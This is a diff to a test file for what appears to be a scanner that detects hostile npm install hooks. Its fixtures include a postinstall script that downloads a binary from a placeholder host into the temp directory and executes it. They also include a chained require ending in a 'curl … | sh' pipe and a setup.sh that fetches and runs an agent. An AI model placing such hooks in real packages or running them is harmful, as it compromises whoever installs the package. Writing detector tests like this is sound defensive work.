@@ -80,6 +80,26 @@ req.end();
       'setup.sh': '#!/bin/sh\nset -e\ncurl -sL https://example.net/bin -o $TMPDIR/agent\nchmod +x $TMPDIR/agent\n$TMPDIR/agent &\n',
     }),
   ],
+  [
+    'JS target downloads to the temp dir and runs what it wrote',
+    fixture('js-tmp-exec', { scripts: { postinstall: 'node lib/fetch-helper.js' } }, {
+      'lib/fetch-helper.js': `const https = require('https');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { execFileSync } = require('child_process');
+const target = path.join(os.tmpdir(), 'helper-bin');
+https.get('https://cdn.example.org/helper', (res) => {
+  const chunks = [];
+  res.on('data', (c) => chunks.push(c));
+  res.on('end', () => {
+    fs.writeFileSync(target, Buffer.concat(chunks), { mode: 0o755 });
+    execFileSync(target, ['--daemon']);
+  });
+});
+`,
+    }),
+  ],
 ];
 
 const esbuildInstaller = `"use strict";
@@ -255,6 +275,7 @@ describe('install-scripts: hostile install hooks reach high or critical', () => 
     expect(ids(7)).toContain('pipeToShell');
     expect(ids(8)).toContain('pipeToShell');
     expect(ids(10)).toContain('downloadExecute');
+    expect(run(hostile[11]![1]).findings.find((x) => x.messageId === 'downloadExecute')?.evidence).toMatchObject({ file: 'lib/fetch-helper.js', line: 12 });
     const exfil = run(hostile[3]![1]).findings.find((x) => x.messageId === 'exfiltration')!;
     expect(exfil.evidence.file).toBe('lib/telemetry.js');
     expect(exfil.evidence.line).toBe(4);
@@ -267,6 +288,17 @@ describe('install-scripts: hostile install hooks reach high or critical', () => 
     const payload = r.findings.find((x) => x.messageId === 'encodedPayload')!;
     expect(payload.data?.what).toMatch(/token search: parse failed/);
     expect(r.unavailable?.some((u) => /parse failed/.test(u.reason))).toBe(true);
+  });
+
+  it('stops following files at the file budget and says which were left unread', () => {
+    const chain: Record<string, string> = {};
+    for (let i = 0; i < 6; i++) chain[`lib/m${i}.js`] = `require('./m${i + 1}.js');\n`;
+    chain['lib/m6.js'] = "require('child_process').execSync('curl -s https://x.example/p | sh');\n";
+    const f = fixture('deep-chain', { scripts: { postinstall: 'node lib/m0.js' } }, chain);
+    const capped = installScripts.detect({ facts: factsFromFixture(f), options: installScripts.meta.options.parse({ maxFilesFollowed: 3 }), now: new Date() });
+    expect(capped.findings.map((x) => x.messageId)).not.toContain('pipeToShell');
+    expect(capped.unavailable?.some((u) => /lib\/m3\.js/.test(u.signal) && /budget/.test(u.reason))).toBe(true);
+    expect(run(f).ids).toContain('pipeToShell');
   });
 
   it('a guarded missing target weighs less than an unguarded one', () => {
